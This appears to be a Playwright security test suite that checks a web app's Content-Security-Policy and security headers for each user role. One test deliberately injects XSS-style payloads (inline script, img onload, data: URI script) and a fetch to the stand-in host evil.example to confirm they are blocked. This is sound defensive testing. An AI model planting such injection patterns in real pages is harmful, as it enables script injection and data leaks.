import type { Page } from "@playwright/test";
import { NOT_FOUND, pagesOf, ROLES } from "./support/pages.ts";
import { expect, test } from "./support/test.ts";

declare global {
  interface Window {
    violations: string[];
    wasInjected?: boolean;
  }
}

const HEADERS = {
  "strict-transport-security": /max-age=\d{8}/,
  "x-content-type-options": /^nosniff$/,
  "x-frame-options": /^DENY$/,
  "content-security-policy": /frame-ancestors 'none'/,
  "referrer-policy": /^strict-origin-when-cross-origin$/,
  "permissions-policy": /camera=\(\)/,
  "cross-origin-opener-policy": /^same-origin-allow-popups$/,
};

const watchViolations = (page: Page) =>
  page.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
      window.violations.push(`${violatedDirective}: ${blockedURI}`),
    );
  });

for (const role of ROLES)
  test(`every page that ${role}s see keeps to its Content-Security-Policy and is sent with the headers of a safe site`, async ({
    page: visitors,
    openAs,
    shelves,
    complaints,
  }) => {
    complaints.expect(NOT_FOUND);
    const { person, pages } = await pagesOf(role, shelves);
    const page = person ? await openAs(person) : visitors;
    await watchViolations(page);
    for (const { path, title, whole } of pages)
      await test.step(title, async () => {
        const response = await page.goto(path);
        await whole(page);
        expect.soft(await page.evaluate(() => window.violations), title).toEqual([]);
        const policy = page.locator("head > meta[http-equiv='Content-Security-Policy']");
        await expect.soft(policy).toHaveAttribute("content", /default-src 'self'; script-src 'self' 'sha256-[^']+' /);
        for (const [name, value] of Object.entries(HEADERS))
          expect.soft(response?.headers()[name], name).toMatch(value);
      });
  });

test("a script that somebody smuggles into a page does not run, and nothing is evaluated or sent elsewhere", async ({
  page,
  complaints,
}) => {
  complaints.expect(/Content Security Policy/, /Refused to connect/);
  await watchViolations(page);
  await page.goto("/contact");
  const outcome = await page.evaluate(async () => {
    const image = document.createElement("div");
    image.innerHTML = '<img src="/favicon.svg" onload="window.wasInjected = true">';
    const script = document.createElement("script");
    script.textContent = "window.wasInjected = true";
    document.body.append(script, image);
    const elsewhere = await fetch("https://evil.example/").then(
      () => "sent",
      () => "refused",
    );
    const evaluated = await new Promise((resolve) => {
      const worker = document.createElement("script");
      worker.src = "data:text/javascript,window.wasInjected=true";
      worker.onerror = () => resolve("refused");
      worker.onload = () => resolve("ran");
      document.body.append(worker);
    });
    return { elsewhere, evaluated };
  });
  expect(outcome).toEqual({ elsewhere: "refused", evaluated: "refused" });
  expect(await page.evaluate(() => window.wasInjected)).toBeUndefined();
  await expect
    .poll(() => page.evaluate(() => window.violations.map((text) => text.split(":")[0]).sort()))
    .toEqual(["connect-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
});
